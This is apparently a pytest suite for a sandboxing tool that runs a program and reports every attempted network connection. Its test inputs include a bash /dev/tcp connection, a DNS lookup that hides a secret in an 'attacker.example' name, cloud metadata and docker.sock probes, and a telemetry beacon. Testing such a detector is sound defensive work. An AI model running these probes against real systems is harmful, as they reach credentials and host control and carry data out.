"""`airlock silence --command`: silent programs pass, every kind of talker is caught and named, and a recorder that is not awake is never a
pass. Nothing here can reach further than the box that the program runs in."""

import json
import os
import shutil
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from conftest import ROOT, environment, run_program

NOBODY = "65534"

CONNECT_AND_EXIT = r"""
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
    inet_pton(AF_INET, "192.0.2.99", &to.sin_addr);
    connect(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), (struct sockaddr *)&to, sizeof(to));
    _exit(0);
}
"""

TELEMETRY = """
import atexit, threading, urllib.request
def beacon(path):
    try:
        urllib.request.urlopen(urllib.request.Request("http://stats.example/" + path, data=b"{}"), timeout=3)
    except Exception:
        pass
worker = threading.Thread(target=beacon, args=("start",), daemon=True)
worker.start()
atexit.register(beacon, "exit")
worker.join(5)
"""


def compile_static(folder, name, source):
    program = folder / name
    if isinstance(source, str):
        file = folder / f"{name}.c"
        file.write_text(source)
        source = file
    subprocess.run(["cc", "-O2", "-static", "-o", program, source], check=True, capture_output=True)
    return program


@pytest.fixture
def silence(airlock):
    """The JSON answer about a program, whose exit status must be `status`."""

    def ask(*program, status, env=None):
        result = airlock("silence", "--command", "--", *program, json=True, status=status, env=env)
        return result.json

    return ask


def find(answer, **wanted):
    """The one attempt that has all of these members."""
    for attempt in answer["attempts"]:
        if all(attempt[key] == value for key, value in wanted.items()):
            return attempt
    return pytest.fail(f"no attempt with {wanted} in {json.dumps(answer['attempts'], indent=1)}", pytrace=False)


def assert_awake(answer):
    assert [r["name"] for r in answer["recorders"] if not r["awake"]] == [], answer


# ── silence ──


@pytest.mark.parametrize(
    "program",
    [
        ["true"],
        ["sh", "-c", "ls / >/dev/null; id -un; echo done"],
        [sys.executable, "-c", "import json, math, threading; print(math.pi)"],
    ],
    ids=["true", "shell", "python"],
)
def test_a_silent_program_passes(silence, program):
    answer = silence(*program, status=0)

    assert answer["schema"] == "airlock/silence/1"
    assert answer["result"] == "PASSED"
    assert answer["attempts"] == []
    assert answer["witness"] == {"packets": 0, "recorded": 0}
    assert_awake(answer)


def test_loopback_is_no_attempt(silence):
    server = "import socket; s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname()); print(c)"

    assert silence(sys.executable, "-c", server, status=0)["result"] == "PASSED"


def test_the_programs_status_and_output_are_told(airlock):
    result = airlock("silence", "--command", "--", "sh", "-c", "echo to-the-person; exit 7", json=True, status=6)

    assert result.json["exitStatus"] == 7
    assert "to-the-person" in result.err


def test_a_program_that_failed_is_never_a_pass(silence):
    """It may have been silent only because it did nothing."""
    answer = silence("sh", "-c", "exit 3", status=6)
    assert answer["result"] == "INCONCLUSIVE" and "status 3" in answer["reason"]

    answer = silence("sh", "-c", "kill -SEGV $$", status=6)
    assert answer["result"] == "INCONCLUSIVE" and "signal 11" in answer["reason"]

    answer = silence("bash", "-c", "exec 3<>/dev/tcp/192.0.2.44/8443; exit 3", status=1)
    assert answer["result"] == "FAILED"


def test_a_program_cannot_write_where_it_runs(airlock, tmp_path):
    airlock("silence", "--command", "--", "sh", "-c", f"echo x > {tmp_path}/made; echo x > /tmp/of-its-own", cwd=tmp_path)

    assert not (tmp_path / "made").exists()
    assert not Path("/tmp/of-its-own").exists()


# ── each kind of talker ──


def test_bash_that_opens_a_connection_is_named(silence):
    answer = silence("bash", "-c", "exec 3<>/dev/tcp/192.0.2.44/8443", status=1)

    attempt = find(answer, op="connect", protocol="tcp", address="192.0.2.44", port=8443)
    assert attempt["program"].endswith("/bash")
    assert answer["witness"] == {"packets": 1, "recorded": 1}
    assert_awake(answer)


def test_curl_that_asks_for_a_name_is_named(silence):
    if not shutil.which("curl"):
        pytest.skip("no curl here")
    answer = silence("curl", "-s", "http://huggingface.example/api/telemetry", status=1)

    attempt = find(answer, op="resolve", name="huggingface.example", type="A")
    assert attempt["program"].endswith("/curl")
    assert "api/telemetry" in attempt["command"]


def test_a_proxy_of_the_environment_is_named(silence):
    if not shutil.which("curl"):
        pytest.skip("no curl here")
    answer = silence("curl", "-s", "https://models.example/", status=1, env={"https_proxy": "http://via-proxy.example:3128"})

    find(answer, op="resolve", name="via-proxy.example")


def test_telemetry_in_a_thread_and_at_the_end_is_counted(silence):
    answer = silence(sys.executable, "-c", TELEMETRY, status=1)

    attempt = find(answer, op="resolve", name="stats.example", type="A")
    assert attempt["count"] == 2


@pytest.mark.parametrize(
    ("code", "wanted"),
    [
        ("s.socket(s.AF_INET6, s.SOCK_STREAM).connect(('2001:db8::5', 443))", {"op": "connect", "address": "2001:db8::5", "port": 443}),
        ("s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'x', ('198.51.100.5', 514))", {"op": "sendto", "protocol": "udp", "port": 514}),
        ("s.socket(s.AF_INET, s.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('198.51.100.5', 123))", {"op": "sendmsg", "port": 123}),
        ("s.socket(s.AF_INET, s.SOCK_DGRAM).connect(('8.8.8.8', 53))", {"op": "connect", "protocol": "udp", "address": "8.8.8.8", "port": 53}),
        ("s.socket(s.AF_INET6, s.SOCK_DGRAM).sendto(b'x', ('::ffff:192.0.2.8', 9))", {"op": "sendto", "address": "192.0.2.8"}),
        ("s.create_connection(('169.254.169.254', 80), 2)", {"op": "connect", "address": "169.254.169.254", "port": 80}),
        ("s.socket(40, s.SOCK_STREAM)", {"op": "socket", "protocol": "vsock"}),
        ("s.socket(s.AF_UNIX).connect('/run/docker.sock')", {"op": "connect", "protocol": "unix", "name": "/run/docker.sock"}),
        ("s.getaddrinfo('secret-in-a-label.attacker.example', 443)", {"op": "resolve", "name": "secret-in-a-label.attacker.example"}),
    ],
    ids=["tcp6", "udp", "sendmsg", "own-resolver", "v4-mapped", "cloud-metadata", "vsock", "unix-to-host", "name"],
)
def test_each_way_out_is_named(silence, code, wanted):
    program = f"import socket as s\ntry:\n    {code}\nexcept OSError as e:\n    print(e)"

    answer = silence(sys.executable, "-c", program, status=1)

    assert answer["result"] == "FAILED"
    find(answer, **wanted)
    assert_awake(answer)


def test_a_socket_of_the_host_is_not_reached(silence, tmp_path):
    """It lies in the host's file system, which the program sees; it must still find nobody."""
    import socket

    # not below /tmp: that is the box's own
    folder = Path("/var/tmp") / f"airlock-silence-{os.getpid()}"
    folder.mkdir()
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(folder / "daemon.sock"))
            server.listen()
            code = f"import socket; socket.socket(socket.AF_UNIX).connect('{folder}/daemon.sock')"
            answer = silence(sys.executable, "-c", code, status=1)
            server.settimeout(0.2)
            with pytest.raises(TimeoutError):
                server.accept()
    finally:
        shutil.rmtree(folder)
    find(answer, protocol="unix", name=f"{folder}/daemon.sock")


def test_a_static_program_that_connects_and_exits_at_once_is_named(silence, tmp_path):
    program = compile_static(tmp_path, "hasty", CONNECT_AND_EXIT)

    for _ in range(10):
        answer = silence(program, status=1)

        attempt = find(answer, op="connect", address="192.0.2.99", port=443)
        assert attempt["program"] == str(program)


def test_the_demos_chatty_engine_is_caught_in_all_three(silence, tmp_path):
    program = compile_static(tmp_path, "chatty", ROOT / "demo" / "chatty.c")

    answer = silence(program, "/bin/true", status=1)

    assert len(answer["attempts"]) == 3
    find(answer, op="resolve", name="telemetry.engine.example", program=str(program))
    find(answer, op="connect", protocol="tcp", address="192.0.2.10", port=443, program=str(program))
    find(answer, op="sendto", protocol="udp", address="198.51.100.10", port=8125, program=str(program))


def test_a_program_that_does_not_end_is_ended(airlock):
    result = airlock("silence", "--command", "--seconds", "1", "--", "sleep", "60", json=True)

    assert result.json["result"] == "PASSED"
    assert result.json["signal"] == signal.SIGTERM
    assert result.seconds < 20


# ── recorders ──


def children(pid):
    """Process ids below `pid`, with their command lines."""
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            if parent == pid:
                found[int(entry.name)] = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except (FileNotFoundError, ProcessLookupError):
            continue
    return found


def helper(pid, role):
    return next((child for child, command in children(pid).items() if role in command), None)


@pytest.mark.parametrize("role", ["silence-recorder", "silence-stub"])
def test_a_recorder_that_is_killed_makes_the_answer_inconclusive(airlock_path, wait_for, role):
    process = subprocess.Popen(
        [airlock_path, "--json", "silence", "--command", "--", "sleep", "3"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environment()
    )
    victim = wait_for(lambda: helper(process.pid, role), f"the helper {role}")
    time.sleep(0.5)
    os.kill(victim, signal.SIGKILL)

    out, _ = process.communicate(timeout=60)

    assert process.returncode == 6
    answer = json.loads(out)
    assert answer["result"] == "INCONCLUSIVE"
    name = {"silence-recorder": "seccomp-notify", "silence-stub": "dns-stub"}[role]
    assert [r["awake"] for r in answer["recorders"] if r["name"] == name] == [False]


def test_when_airlock_is_killed_nothing_of_the_box_is_left(airlock_path, wait_for):
    process = subprocess.Popen(
        [airlock_path, "silence", "--command", "--", "sleep", "4711"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=environment()
    )

    def sleepers():
        found = []
        for entry in Path("/proc").iterdir():
            try:
                if entry.name.isdigit() and (entry / "cmdline").read_bytes() == b"sleep\0004711\0":
                    found.append(entry.name)
            except (FileNotFoundError, ProcessLookupError):
                continue
        return found

    wait_for(sleepers, "the program in the box")
    process.kill()
    process.wait(10)

    wait_for(lambda: not sleepers(), "the end of the program in the box", timeout=10)


# ── who ──


def test_an_ordinary_user_gets_the_same_answers(airlock_path, tmp_path):
    if os.geteuid() != 0:
        pytest.skip("every other test here ran as an ordinary user")
    # somewhere that this user may read
    folder = Path("/tmp") / f"airlock-nobody-{os.getpid()}"
    folder.mkdir(mode=0o755)
    try:
        program = shutil.copy(airlock_path, folder / "airlock")
        as_nobody = ["--reuid", NOBODY, "--regid", NOBODY, "--clear-groups", program, "--json", "silence", "--command", "--"]
        silent = run_program("/usr/bin/setpriv", [*as_nobody, "true"], cwd="/")
        talker = run_program("/usr/bin/setpriv", [*as_nobody, "bash", "-c", "exec 3<>/dev/tcp/192.0.2.44/8443"], cwd="/", status=1)
    finally:
        shutil.rmtree(folder)

    assert (silent.json["result"], silent.json["madeBy"]) == ("PASSED", "user")
    find(talker.json, op="connect", address="192.0.2.44", port=8443)
    assert_awake(talker.json)


# ── forms ──


def test_the_text_names_program_and_address(airlock):
    result = airlock("silence", "--command", "--", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.44/8443", status=1)

    assert "silence FAILED" in result.out
    assert "bash" in result.out
    assert "192.0.2.44:8443" in result.out


def test_junit_has_a_failure_for_a_talker_and_none_for_a_silent_program(airlock):
    loud = airlock("silence", "--command", "--format", "junit", "--", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.44/8443", status=1)
    quiet = airlock("silence", "--command", "--format", "junit", "--", "true")

    suite = ElementTree.fromstring(loud.out).find("testsuite")
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("6", "1", "0")
    assert len(suite.findall("testcase")) == 6
    assert "192.0.2.44:8443" in suite.find("testcase/failure").text
    suite = ElementTree.fromstring(quiet.out).find("testsuite")
    assert (suite.get("failures"), suite.get("errors")) == ("0", "0")


def test_sarif_has_a_result_for_each_attempt(airlock):
    result = airlock("silence", "--command", "--format", "sarif", "--", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.44/8443", status=1)

    document = json.loads(result.out)
    assert document["version"] == "2.1.0"
    (run,) = document["runs"]
    (found,) = run["results"]
    assert found["ruleId"] == "silence/address"
    assert run["tool"]["driver"]["rules"][found["ruleIndex"]]["id"] == found["ruleId"]
    assert "192.0.2.44:8443" in found["message"]["text"]


# ── wrong usage ──


def test_a_program_that_is_not_there_is_not_found(airlock):
    result = airlock("silence", "--command", "--", "/no/such/program", status=4)

    assert "/no/such/program" in result.err


@pytest.mark.parametrize(
    "arguments",
    [
        ["--command"],
        [],
        ["--format", "html", "--command", "--", "true"],
        ["--command", "--idle", "3", "--", "true"],
        ["--command", "--seconds", "soon", "--", "true"],
        ["--seconds", "3", "assistant:v1.0.0"],
    ],
)
def test_wrong_usage_is_said_so(airlock, arguments):
    airlock("silence", *arguments, status=2)
